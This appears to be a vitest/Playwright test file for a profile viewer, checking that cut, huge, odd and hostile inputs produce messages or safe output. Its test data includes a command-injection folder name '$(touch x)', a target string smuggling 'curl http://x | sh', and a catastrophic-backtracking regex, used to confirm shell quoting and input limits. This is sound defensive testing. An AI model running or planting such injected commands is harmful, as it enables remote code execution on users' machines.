// Issue 17 in the page: big, cut, odd and hostile inputs give a result or a message, never an
// exception, a silent partial number, a broken export or a shell command built unquoted.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'fflate';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventually, flameSettled, startHarness, type Harness } from './harness.ts';

let h: Harness;
let work: string;

beforeAll(async () => {
  h = await startHarness();
  work = mkdtempSync(join(tmpdir(), 'peakscope-issue17-'));
}, 300_000);

afterAll(async () => {
  await h?.close();
  rmSync(work, { recursive: true, force: true });
});

const fileText = (page: Page, name: string) =>
  page
    .locator('.file', { has: page.locator('.path', { hasText: new RegExp(`^${name.replace(/[.$()]/g, '\\$&')}$`) }) })
    .textContent();

async function download(page: Page, kind: string): Promise<string> {
  await page.locator('.export-menu summary').click();
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.locator(`.export-items button[data-export="${kind}"]`).click(),
  ]);
  const path = join(work, `${kind}-${file.suggestedFilename()}`);
  await file.saveAs(path);
  return path;
}

describe('issue 17 in the page', () => {
  it(
    'cut files say "truncated" with the kept lines; the missing-modes command is shell-quoted',
    { timeout: 120_000 },
    async () => {
      const flame = Array.from({ length: 200 }, (_, i) => `module;a.bzl.f${i % 9};dict ${1000 + i}\n`).join('');
      const gz = gzipSync(new TextEncoder().encode(flame));
      const folder = join(work, '$(touch x)');
      mkdirSync(folder);
      writeFileSync(join(folder, 'cut.flame.src'), flame.slice(0, -3));
      writeFileSync(join(folder, 'cut.flame.src.gz'), gz.subarray(0, gz.length - 3));
      writeFileSync(join(folder, 'targets.txt'), 'load/root//pkg && curl http://x | sh #\n');
      const { page, log } = await h.open('#tab=samples');
      await page.locator('input[type=file][webkitdirectory]').setInputFiles(folder);
      await eventually(async () => (await page.locator('.file .path').count()) >= 3, 30_000, 'the three files');
      expect(await fileText(page, 'cut.flame.src')).toMatch(/truncated — the file ends mid-line at line 200/);
      expect(await fileText(page, 'cut.flame.src.gz')).toMatch(/truncated — the gzip stream is damaged or cut short/);
      const commands = await page.locator('.missing code').allTextContents();
      expect(commands.length).toBeGreaterThan(0);
      for (const c of commands)
        expect(c).toMatch(
          /^buck2 profile loading --mode [a-z-]+ -o '\$\(touch x\)\/[a-z-]+' 'root\/\/pkg && curl http:\/\/x \| sh #:'$/,
        );
      expect(log.consoleErrors).toEqual([]);
      await page.close();
    },
  );

  it(
    'a 200k-deep stack of distinct functions: Callers/callees lists them all and works',
    { timeout: 240_000 },
    async () => {
      const path = join(work, 'deep.flame.src');
      const depth = 200_000;
      writeFileSync(path, `${Array.from({ length: depth }, (_, i) => `f${i}`).join(';')};list 8\nmodule;g;dict 16\n`);
      const { page, log } = await h.open('#tab=sandwich');
      await page.locator('input[type=file]').first().setInputFiles(path);
      await eventually(
        async () => (await page.locator('.file .path').allTextContents()).includes('deep.flame.src'),
        180_000,
        'the deep file',
      );
      const wanted = `f${Math.floor(depth * 0.75)}`;
      // The picker lists every function (200k options): building it used to overflow the call stack.
      await page.locator('input[name=sandwich-function]').fill(wanted);
      await page.locator('input[name=sandwich-function]').dispatchEvent('change');
      await eventually(
        async () => (await page.locator('.sandwich-summary').textContent())?.startsWith(wanted),
        180_000,
        `the sandwich of ${wanted}`,
      );
      expect(await page.locator('table.sandwich-callers tbody').textContent()).toContain(
        `f${Math.floor(depth * 0.75) - 1}`,
      );
      expect(await page.evaluate(() => 1 + 1)).toBe(2);
      expect(log.consoleErrors).toEqual([]);
      await page.close();
    },
  );

  it(
    'names with U+001B, U+0001, U+FFFE: the SVG export is well-formed XML and the PNG export works',
    { timeout: 120_000 },
    async () => {
      const path = join(work, 'controls.flame.src');
      writeFileSync(
        path,
        'module;a\u001b[2J.bzl.f;dict 64\nmodule;b\u0001.bzl.g;list 32\nmodule;c\ufffe\uffff.bzl.h;tuple 16\n',
      );
      const { page, log } = await h.open('#tab=flame');
      await page.locator('input[type=file]').first().setInputFiles(path);
      await flameSettled(page, 60_000);
      const svg = readFileSync(await download(page, 'svg'), 'utf8');
      const parsed = await page.evaluate((text) => {
        const doc = new DOMParser().parseFromString(text, 'image/svg+xml');
        return {
          error: doc.querySelector('parsererror')?.textContent ?? null,
          titles: [...doc.querySelectorAll('title')].map((t) => t.textContent),
        };
      }, svg);
      expect(parsed.error).toBeNull();
      expect(parsed.titles.join('\n')).toContain('a\ufffd[2J.bzl.f');
      const png = readFileSync(await download(page, 'png'));
      expect(png.subarray(1, 4).toString('latin1')).toBe('PNG');
      expect(log.consoleErrors).toEqual([]);
      await page.close();
    },
  );

  it('#url= with %E0 or %ZZ shows a message, never an unhandled URIError', { timeout: 60_000 }, async () => {
    for (const bad of ['%E0', '%ZZ', 'x%E0.src']) {
      const { page, log } = await h.open(`#url=${bad}`);
      await eventually(async () => (await page.locator('.notice').count()) > 0, 20_000, `a notice for ${bad}`);
      expect(log.consoleErrors.filter((e) => /URIError/.test(e))).toEqual([]);
      await page.close();
    }
  });

  it('an 8 KiB regex from a shared link is refused in words', { timeout: 120_000 }, async () => {
    const path = join(work, 'many.flame.src');
    writeFileSync(path, Array.from({ length: 20_000 }, (_, i) => `module;p${i}.bzl.f${i};dict 8\n`).join(''));
    const { page, log } = await h.open(`#search=${encodeURIComponent('(a+)+'.repeat(1640))}&regex=1`);
    await page.locator('input[type=file]').first().setInputFiles(path);
    await eventually(
      async () => /up to 256 characters/.test((await page.locator('#search-status').textContent()) ?? ''),
      60_000,
      'the bound message',
    );
    expect(log.consoleErrors).toEqual([]);
    await page.close();
  });
});
